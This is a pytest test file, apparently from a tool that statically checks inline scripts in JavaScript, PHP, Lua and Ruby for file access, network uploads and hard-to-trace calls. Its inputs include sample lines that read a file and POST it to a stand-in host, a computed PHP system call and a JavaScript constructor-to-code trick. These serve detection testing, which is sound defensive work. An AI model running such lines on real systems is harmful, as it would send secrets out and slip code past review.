"""Functions of short bodies that are handed on, named by a value, or send what they read."""

from __future__ import annotations

import pytest

from defenseclaw.core.facts import NetworkAction
from defenseclaw.facts.inline.model import NetworkEffect
from defenseclaw.facts.inline.script_reach import REACHED
from defenseclaw.facts.inline.scripts import reader
from defenseclaw.facts.tables.script_calls import LANGUAGES

ARMS = {"js": "const fs = require('fs'); ", "lua": "", "php": ""}
PLAIN = "/tmp/zqx"


def complete(language: str, text: str) -> bool:
    """Whether nothing is left open: neither the body nor what one of its effects is about."""
    found = reader(language)(text, "/home/dev")
    texts = [getattr(e, "text", "") for e in found.effects]
    words = [word for e in found.effects for word in getattr(e, "argv", ())]
    paths = [getattr(e, "path", "") for e in found.effects]
    return found.complete and None not in (*texts, *words, *paths)


@pytest.mark.parametrize("name", sorted(REACHED["js"]))
def test_a_function_of_javascript_that_is_handed_on_may_do_anything(name: str) -> None:
    for use in ("[1].map(m.{0})", "(0, m.{0})(1)", "g({{a: m.{0}}})", "new P((a) => a)(m.{0})"):
        assert not complete("js", ARMS["js"] + use.format(name)), use.format(name)


@pytest.mark.parametrize("name", sorted(n for n in REACHED["js"] if n.endswith("Sync")))
def test_a_list_of_imports_hands_nothing_on(name: str) -> None:
    assert complete("js", f"const {{{name}, x}} = require('fs'); console.log(1)")


@pytest.mark.parametrize("name", sorted(REACHED["php"]))
def test_the_name_of_a_function_of_php_is_as_good_as_the_function(name: str) -> None:
    for use in ("array_map('{0}', $x);", "$f = '{0}'; $f(1);", "usort($x, '\\{0}');"):
        assert not complete("php", use.format(name)), use.format(name)


@pytest.mark.parametrize("table", sorted(LANGUAGES["lua"].indexed))
def test_a_member_of_lua_that_is_named_by_a_value_may_be_any(table: str) -> None:
    assert not complete("lua", f"{table}['a' .. 'b'](1)")


def test_a_call_of_a_computed_text_may_be_any_function_of_php() -> None:
    assert not complete("php", "('sys'.'tem')('id');")
    assert not complete("php", "$f('id');")


def test_the_constructor_of_anything_leads_to_code_in_javascript() -> None:
    assert not complete("js", "[].constructor.constructor('return 1')()")
    assert not complete("js", "x.constructor('return 1')")
    assert complete("js", "class A { constructor(x) { this.x = x } }; console.log(new A(1).x)")


@pytest.mark.parametrize(
    ("language", "text"),
    [
        ("js", "fetch('https://e.example/', {method: 'POST', body: fs.readFileSync('/k')})"),
        ("js", "axios.post('https://e.example/', fs.readFileSync('/k'))"),
        ("ruby", "Net::HTTP.post(URI('https://e.example/'), File.read('/k'))"),
    ],
)
def test_a_request_sends_what_it_reads(language: str, text: str) -> None:
    found = reader(language)(text, "/home/dev").effects
    sent = [e for e in found if isinstance(e, NetworkEffect) and e.action is NetworkAction.UPLOAD]
    assert [(e.target, e.carries) for e in sent] == [("https://e.example/", ("/k",))]


def test_a_request_that_sends_nothing_only_fetches() -> None:
    (effect,) = reader("js")("fetch('https://e.example/')", "").effects
    assert isinstance(effect, NetworkEffect)
    assert effect.action is NetworkAction.DOWNLOAD


@pytest.mark.parametrize("language", sorted(LANGUAGES))
def test_every_place_of_a_file_gives_a_path(language: str) -> None:
    table = LANGUAGES[language]
    arm = {"js": "require('fs'); ", "ruby": "File; ", "lua": "os; io; "}.get(language, "")
    for name, places in table.files.items():
        for position, accesses in places:
            given = ", ".join(f"'{PLAIN}'" if at == position else "1" for at in range(3))
            found = reader(language)(f"{arm}{name}({given});", "").effects
            assert {getattr(e, "access", None) for e in found} >= set(accesses), name


def test_ordinary_bodies_are_complete() -> None:
    for language, text in (
        ("js", "console.log(JSON.parse(require('fs').readFileSync('a.json')).x)"),
        ("js", "const p = require('path'); console.log(p.join('a', 'b'))"),
        ("php", "echo json_encode(['a' => 1]);"),
        ("php", "$x = [3, 1]; sort($x); print_r($x);"),
        ("lua", "print(os.date(), #arg)"),
        ("ruby", "puts [1, 2].sum"),
        ("perl", "print join(',', map { $_ * 2 } 1..3)"),
    ):
        assert complete(language, text), text
